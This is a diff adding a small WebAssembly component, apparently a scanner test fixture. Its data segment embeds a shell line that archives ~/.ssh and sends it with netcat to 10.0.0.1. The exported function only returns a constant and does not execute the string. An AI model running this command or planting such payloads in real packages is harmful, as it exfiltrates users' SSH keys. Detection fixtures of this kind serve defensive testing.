@@ -1,0 +1,11 @@
+;; A script that takes things away.
+;; scanner: structure
+(component
+  (core module $m
+    (memory (export "memory") 1)
+    (data (i32.const 64) "#!/bin/sh\ntar c ~/.ssh | nc 10.0.0.1 9\n")
+    (func (export "run") (result i32) (i32.const 7)))
+  (core instance $i (instantiate $m))
+  (func $run (result u32) (canon lift (core func $i "run")))
+  (instance $acts (export "run" (func $run)))
+  (export "acme:tool/acts@1.0.0" (instance $acts)))
